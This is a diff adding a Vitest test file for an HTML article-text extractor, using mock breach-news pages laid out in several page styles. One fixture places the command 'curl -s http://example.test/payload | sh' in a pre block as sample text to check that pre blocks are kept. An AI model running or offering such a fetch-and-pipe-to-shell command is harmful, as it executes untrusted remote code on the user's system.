@@ -1,0 +1,55 @@
+import { describe, expect, it } from 'vitest';
+import { extractContent } from '../../extractors/content/index.js';
+
+const para = (s: string) => `<p>${s}</p>`;
+const SENTENCES = [
+  'Investigators said the intrusion began in March, when the attackers used a stolen password to reach a remote access gateway.',
+  'From there, the group moved laterally, harvesting credentials and staging archives on a file server, according to the report.',
+  'The company said it had reset every administrator account, rebuilt the affected servers, and notified regulators in three countries.',
+  'Analysts noted that the tooling, infrastructure and working hours matched an espionage campaign documented last year.',
+];
+const nav = '<ul><li><a href="/">Home</a></li><li><a href="/news">News</a></li><li><a href="/about">About us</a></li></ul>';
+const related =
+  '<ul><li><a href="/a">Another breach at a regional bank, officials say</a></li><li><a href="/b">Five takeaways from the latest ransomware report</a></li><li><a href="/c">Why patching still lags in hospitals</a></li></ul>';
+const expectedBody = SENTENCES.join('\n\n');
+
+describe('extractContent layouts', () => {
+  it('reads an <article> page and leaves out header, nav and footer', () => {
+    const html = `<html><body><header><a href="/">Site</a>${nav}</header><main><article><h1>Breach at Example Corp</h1>
+      ${SENTENCES.map(para).join('\n')}</article></main><footer><p>Copyright 2024 Example Media. All rights reserved, and more.</p></footer></body></html>`;
+    expect(extractContent(html).text).toBe(expectedBody);
+  });
+
+  it('reads a div-only page by scoring, without any article hint in class names', () => {
+    const html = `<html><body><div id="top"><div class="x1">${nav}</div></div><div class="wrap"><div class="c7">
+      ${SENTENCES.map((s) => `<div>${s}</div>`).join('')}</div><div class="c8">${related}</div></div></body></html>`;
+    expect(extractContent(html).text).toBe(expectedBody);
+  });
+
+  it('reads an old table layout with <br><br> paragraphs and skips the menu column', () => {
+    const html = `<html><body><table width="100%"><tr><td width="150">${nav}</td><td>
+      <font size="2">${SENTENCES.join('<br><br>\n')}</font></td></tr></table></body></html>`;
+    expect(extractContent(html).text).toBe(expectedBody);
+  });
+
+  it('keeps subheadings, list items, quotes and pre blocks as paragraphs, without markers', () => {
+    const html = `<article><h1>Title</h1>${para(SENTENCES[0]!)}<h2>What was taken</h2>
+      <ul><li>Customer names and   addresses</li><li>Hashed passwords</li></ul>
+      <blockquote><p>We acted within hours, the spokesperson said.</p></blockquote>
+      <pre>curl -s http://example.test/payload | sh</pre>${para(SENTENCES[1]!)}</article>`;
+    expect(extractContent(html).text).toBe(
+      [SENTENCES[0], 'What was taken', 'Customer names and addresses', 'Hashed passwords', 'We acted within hours, the spokesperson said.', 'curl -s http://example.test/payload | sh', SENTENCES[1]].join('\n\n'),
+    );
+  });
+
+  it('turns rows of a data table in the body into "cell | cell" paragraphs', () => {
+    const html = `<article>${para(SENTENCES[0]!)}<table><tr><th>CVE</th><th>Product</th><th>CVSS</th></tr>
+      <tr><td>CVE-2024-0001</td><td>Gateway</td><td>9.8</td></tr></table>${para(SENTENCES[1]!)}</article>`;
+    expect(extractContent(html).text).toBe([SENTENCES[0], 'CVE | Product | CVSS', 'CVE-2024-0001 | Gateway | 9.8', SENTENCES[1]].join('\n\n'));
+  });
+
+  it('decodes entities and collapses inline whitespace', () => {
+    const html = `<article><p>AT&amp;T   and\n Verizon&#8217;s networks were   <b>breached</b>, officials said, in a long campaign.</p>${SENTENCES.map(para).join('')}</article>`;
+    expect(extractContent(html).text.split('\n\n')[0]).toBe('AT&T and Verizon’s networks were breached, officials said, in a long campaign.');
+  });
+});
